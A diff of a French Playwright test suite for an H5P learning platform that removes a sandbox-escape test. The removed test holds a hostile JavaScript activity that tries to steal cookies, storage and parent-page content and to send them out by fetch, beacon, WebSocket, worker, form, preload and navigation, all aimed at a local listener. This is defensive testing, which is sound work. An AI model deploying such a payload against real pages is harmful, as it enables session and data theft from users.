@@ -1,9 +1,7 @@
 """Une activité H5P dans un vrai navigateur : elle joue, note, reprend, attend le réseau, et ne sort pas de sa boîte."""
 
 from collections.abc import Callable, Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from threading import Thread
 from typing import Any
 
 import pytest
@@ -11,8 +9,7 @@ from django.core.signals import request_started
 from playwright.sync_api import FrameLocator, Page, expect
 
 from cours.models import ModuleActivite, ModulePage
-from evaluations.h5p import inclusion
-from evaluations.models import Declaration, EtatH5P, Tentative
+from evaluations.models import Declaration, EtatH5P
 from lms import suivi
 from lms.models import Professionnel, ProgressionActivite
 from tests.fabrique_h5p import installer_activite, installer_bibliotheque
@@ -301,156 +298,6 @@ def test_une_activite_sans_constructeur_montre_un_message(
     page.click("main button:has-text('Commencer')")
     expect(page.locator("[data-echec]")).to_be_visible()
     expect(page.locator("[data-echec]")).to_contain_text("prévenez votre formateur")
-    surveillance.fautes.clear()
-
-
-class Ecouteur:
-    """Un serveur d'attaquant, local : il note tout ce qu'il reçoit."""
-
-    def __init__(self) -> None:
-        recus: list[str] = []
-
-        class Oreille(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                recus.append(f"{self.command} {self.path}")
-                self.send_response(204)
-                self.end_headers()
-
-            do_POST = do_PUT = do_OPTIONS = do_HEAD = do_GET
-
-            def log_message(self, *arguments: Any) -> None:
-                """Rien dans le journal."""
-
-        self.recus = recus
-        self.serveur = ThreadingHTTPServer(("127.0.0.1", 0), Oreille)
-        self.origine = f"http://127.0.0.1:{self.serveur.server_port}"
-        Thread(target=self.serveur.serve_forever, daemon=True).start()
-
-
-@pytest.fixture
-def ecouteur() -> Iterator[Ecouteur]:
-    un = Ecouteur()
-    yield un
-    un.serveur.shutdown()
-
-
-HOSTILE_JS = """
-H5P.TestHostile = (function () {
-  function Hostile() { H5P.EventDispatcher.call(this); }
-  Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
-  Hostile.prototype.attach = function ($container) {
-    var cible = '__CIBLE__', portail = '__PORTAIL__', butin = [];
-    function essayer(nom, geste) {
-      try { var valeur = geste(); if (valeur) { butin.push(nom + '=' + valeur); } } catch (erreur) { return; }
-    }
-    var natif = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
-    essayer('cookie', function () { return natif.get.call(document); });
-    essayer('stockage', function () { return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage'); });
-    essayer('dom', function () { return window.parent.document.body.innerHTML; });
-    essayer('indexeddb', function () { indexedDB.open('x'); return 'ouvert'; });
-    essayer('top', function () { window.top.location.href = cible + '/top'; });
-    essayer('fenetre', function () { return window.open(cible + '/fenetre'); });
-    essayer('beacon', function () { navigator.sendBeacon(cible + '/beacon', 'x'); });
-    essayer('image', function () { new Image().src = cible + '/image'; });
-    essayer('script', function () {
-      var s = document.createElement('script'); s.src = cible + '/script'; document.body.append(s);
-    });
-    essayer('integrite', function () {
-      // Une empreinte de la politique, reprise dans integrity, laisserait partir ce script vers l'autre hôte.
-      (__EMPREINTES__).forEach(function (empreinte, rang) {
-        var s = document.createElement('script');
-        s.crossOrigin = 'anonymous'; s.integrity = empreinte; s.src = cible + '/integrite' + rang;
-        document.body.append(s);
-      });
-    });
-    essayer('websocket', function () { new WebSocket(cible.replace('http', 'ws') + '/ws'); });
-    essayer('eventsource', function () { new EventSource(cible + '/es'); });
-    essayer('ouvrier', function () {
-      new Worker(URL.createObjectURL(new Blob(['fetch("' + cible + '/ouvrier", {mode: "no-cors"})'])));
-    });
-    ['prefetch', 'preload', 'stylesheet', 'modulepreload', 'icon', 'manifest'].forEach(function (rel) {
-      essayer(rel, function () {
-        var l = document.createElement('link'); l.rel = rel; l.href = cible + '/' + rel; l.as = 'script';
-        document.head.append(l);
-      });
-    });
-    essayer('css', function () {
-      var s = document.createElement('style');
-      s.textContent = '@import "' + cible + '/import.css"; body { background: url(' + cible + '/fond) }';
-      document.head.append(s);
-    });
-    essayer('cadre', function () {
-      var c = document.createElement('iframe'); c.src = cible + '/cadre'; document.body.append(c);
-    });
-    essayer('telechargement', function () {
-      var a = document.createElement('a'); a.href = cible + '/telecharger'; a.download = 'x'; document.body.append(a);
-      HTMLAnchorElement.prototype.click.call(a);
-    });
-    essayer('media', function () { var v = new Audio(cible + '/son'); v.play().catch(function () {}); });
-    essayer('poignee', function () { window.parent.postMessage({type: 'h5p:ready', v: 1}, '*'); });
-    setTimeout(function () {
-      for (var i = 0; i < 1000; i += 1) {
-        PontH5P.envoyer('state', {dataType: 'rafale', subContentId: '0', data: String(i)});
-      }
-      PontH5P.envoyer('state', {dataType: 'gros', subContentId: '0', data: new Array(300000).join('x')});
-    }, 600);
-    essayer('formulaire', function () {
-      var f = document.createElement('form'); f.action = cible + '/formulaire'; f.method = 'post';
-      document.body.append(f); f.submit();
-    });
-    [cible + '/fetch', portail + '/api/h5p/__TENTATIVE__/statements', portail + '/mon-compte/',
-     portail + '/h5p/c/00000000000000000000000000000000-0/content/images/essai.png'].forEach(function (adresse) {
-      fetch(adresse, {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}).catch(function () {});
-      fetch(adresse, {credentials: 'include'}).then(function (r) { if (r.ok) { butin.push(adresse); } })
-        .catch(function () {});
-    });
-    $container.append('<p class="butin">').find('.butin').text('essais faits');
-    setTimeout(function () { $container.find('.butin').text('butin : ' + butin.join(' ; ')); }, 1500);
-    // S'en aller efface le butin : le test le lit d'abord, puis laisse partir.
-    $container.find('.butin').on('click', function () {
-      var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + cible + '/refresh';
-      document.head.append(m);
-      setTimeout(function () { window.location.href = cible + '/navigation'; }, 1000);
-    });
-  };
-  return Hostile;
-})();
-"""
-
-
-def test_une_activite_hostile_ne_touche_a_rien(
-    ouvrir: Callable[..., Page],
-    live_server: Any,
-    surveillance: Surveillance,
-    nadia: Professionnel,
-    poser: Callable[..., Any],
-    ecouteur: Ecouteur,
-) -> None:
-    pont = inclusion.fixe("pont/pont-avant.js", live_server.url).empreinte.strip("'")
-    js = HOSTILE_JS.replace("__CIBLE__", ecouteur.origine).replace("__PORTAIL__", live_server.url)
-    js = js.replace("__EMPREINTES__", f"['{pont}']")
-    poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestHostile", js=js), params={})
-    page = ouvrir()
-    se_connecter(page, nadia)
-    page.evaluate("localStorage.setItem('secret', 'du portail')")
-    cadre = commencer(page)
-    depuis = len(surveillance.requetes)
-    expect(cadre.locator(".butin")).to_contain_text("butin :", timeout=30_000)
-    butin = cadre.locator(".butin").inner_text()
-    cadre.locator(".butin").click()
-    page.wait_for_timeout(3000)
-    assert butin.removeprefix("butin :").strip() in {"", "stockage=[object Object]"}
-    assert ecouteur.recus == []
-    assert "/apprendre/A1/" in page.url
-    atteintes = [
-        r for r in surveillance.requetes[depuis:] if r.frame != page.main_frame and r.url.startswith(live_server.url)
-    ]
-    assert not [r.url for r in atteintes if "/api/" in r.url or "/mon-compte/" in r.url]
-    assert not Declaration.objects.exists()
-    # Mille messages d'un coup, puis un de 300 Ko : la page n'en lit que sa réserve.
-    attendre(page, lambda: EtatH5P.objects.filter(data_id="rafale").exists())
-    assert int(EtatH5P.objects.get().data) < 300
-    assert Tentative.objects.get().date_fin is None
     surveillance.fautes.clear()
 
 
